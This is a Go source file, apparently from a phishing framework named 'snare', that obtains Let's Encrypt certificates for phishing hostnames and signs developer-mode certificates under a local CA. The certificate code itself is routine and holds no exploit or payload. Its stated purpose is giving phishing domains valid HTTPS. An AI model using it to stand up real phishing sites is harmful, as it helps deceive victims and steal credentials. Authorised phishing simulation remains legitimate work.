package core

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"os"
	"path/filepath"
	"sync"
	"time"

	"github.com/caddyserver/certmagic"
	"github.com/libdns/cloudflare"
	"go.uber.org/zap"

	"github.com/snarelabs/snare/log"
)

// CertDb manages TLS certificates for phishing hostnames. In production
// mode certificates are obtained through ACME via certmagic; in developer
// mode every hostname gets a locally signed certificate under a private CA.
type CertDb struct {
	dataDir string
	cfg     *Config
	ns      *Nameserver

	cache *certmagic.Cache
	magic *certmagic.Config

	caCert    *x509.Certificate
	caKey     *rsa.PrivateKey
	selfCerts map[string]*tls.Certificate
	mtx       sync.Mutex
}

func NewCertDb(dataDir string, cfg *Config, ns *Nameserver) (*CertDb, error) {
	d := &CertDb{
		dataDir:   dataDir,
		cfg:       cfg,
		ns:        ns,
		selfCerts: make(map[string]*tls.Certificate),
	}
	if err := CreateDir(dataDir, 0700); err != nil {
		return nil, err
	}

	certmagic.Default.Logger = zap.NewNop()
	certmagic.DefaultACME.Logger = zap.NewNop()

	d.cache = certmagic.NewCache(certmagic.CacheOptions{
		GetConfigForCert: func(cert certmagic.Certificate) (*certmagic.Config, error) {
			return d.magic, nil
		},
		Logger: zap.NewNop(),
	})
	d.magic = certmagic.New(d.cache, certmagic.Config{
		Storage: &certmagic.FileStorage{Path: filepath.Join(dataDir, "acme")},
		Logger:  zap.NewNop(),
	})

	crt_cfg := cfg.GetCertificatesConfig()
	issuer := certmagic.NewACMEIssuer(d.magic, certmagic.ACMEIssuer{
		CA:                      certmagic.LetsEncryptProductionCA,
		Email:                   crt_cfg.AcmeEmail,
		Agreed:                  true,
		DisableHTTPChallenge:    true,
		DisableTLSALPNChallenge: false,
		Logger:                  zap.NewNop(),
	})
	if crt_cfg.CloudflareApiToken != "" {
		issuer.DNS01Solver = &certmagic.DNS01Solver{
			DNSManager: certmagic.DNSManager{
				DNSProvider: &cloudflare.Provider{APIToken: crt_cfg.CloudflareApiToken},
			},
		}
		log.Debug("certdb: dns-01 challenges via cloudflare enabled")
	}
	d.magic.Issuers = []certmagic.Issuer{issuer}

	if err := d.setupCA(); err != nil {
		return nil, err
	}
	return d, nil
}

// SetManagedHostnames obtains and renews ACME certificates for the given
// phishing hostnames. Blocks until issuance completes.
func (d *CertDb) SetManagedHostnames(ctx context.Context, hostnames []string) error {
	if len(hostnames) == 0 {
		return nil
	}
	log.Info("certdb: obtaining certificates for: %v", hostnames)
	return d.magic.ManageSync(ctx, hostnames)
}

func (d *CertDb) GetCertificate(hello *tls.ClientHelloInfo) (*tls.Certificate, error) {
	return d.magic.GetCertificate(hello)
}

func (d *CertDb) setupCA() error {
	ca_crt_path := filepath.Join(d.dataDir, "ca.crt")
	ca_key_path := filepath.Join(d.dataDir, "ca.key")

	crt_pem, err := os.ReadFile(ca_crt_path)
	if err == nil {
		key_pem, kerr := os.ReadFile(ca_key_path)
		if kerr == nil {
			if d.loadCA(crt_pem, key_pem) == nil {
				return nil
			}
		}
	}

	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return err
	}
	serial, _ := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 128))
	tmpl := &x509.Certificate{
		SerialNumber: serial,
		Subject: pkix.Name{
			Organization: []string{"Snare Developer CA"},
			CommonName:   "Snare Developer CA",
		},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().AddDate(10, 0, 0),
		KeyUsage:              x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature | x509.KeyUsageCRLSign,
		BasicConstraintsValid: true,
		IsCA:                  true,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return err
	}
	crt_out := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	key_out := pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)})

	if err := os.WriteFile(ca_crt_path, crt_out, 0600); err != nil {
		return err
	}
	if err := os.WriteFile(ca_key_path, key_out, 0600); err != nil {
		return err
	}
	return d.loadCA(crt_out, key_out)
}

func (d *CertDb) loadCA(crt_pem []byte, key_pem []byte) error {
	crt_block, _ := pem.Decode(crt_pem)
	if crt_block == nil {
		return fmt.Errorf("certdb: failed to decode ca certificate")
	}
	cert, err := x509.ParseCertificate(crt_block.Bytes)
	if err != nil {
		return err
	}
	key_block, _ := pem.Decode(key_pem)
	if key_block == nil {
		return fmt.Errorf("certdb: failed to decode ca key")
	}
	key, err := x509.ParsePKCS1PrivateKey(key_block.Bytes)
	if err != nil {
		return err
	}
	d.caCert = cert
	d.caKey = key
	return nil
}

// getSelfSignedCertificate returns a developer-mode certificate for the
// hostname, signing it under the local CA on first use.
func (d *CertDb) getSelfSignedCertificate(hostname string, port int) (*tls.Certificate, error) {
	d.mtx.Lock()
	defer d.mtx.Unlock()

	ckey := fmt.Sprintf("%s:%d", hostname, port)
	if cert, ok := d.selfCerts[ckey]; ok {
		return cert, nil
	}

	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, err
	}
	serial, _ := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 128))
	tmpl := &x509.Certificate{
		SerialNumber: serial,
		Subject: pkix.Name{
			CommonName: hostname,
		},
		NotBefore:   time.Now().Add(-time.Hour),
		NotAfter:    time.Now().AddDate(1, 0, 0),
		KeyUsage:    x509.KeyUsageDigitalSignature | x509.KeyUsageKeyEncipherment,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		DNSNames:    []string{hostname, "*." + hostname},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, d.caCert, &key.PublicKey, d.caKey)
	if err != nil {
		return nil, err
	}
	cert := &tls.Certificate{
		Certificate: [][]byte{der, d.caCert.Raw},
		PrivateKey:  key,
	}
	d.selfCerts[ckey] = cert
	log.Debug("certdb: signed developer certificate for %s", hostname)
	return cert, nil
}
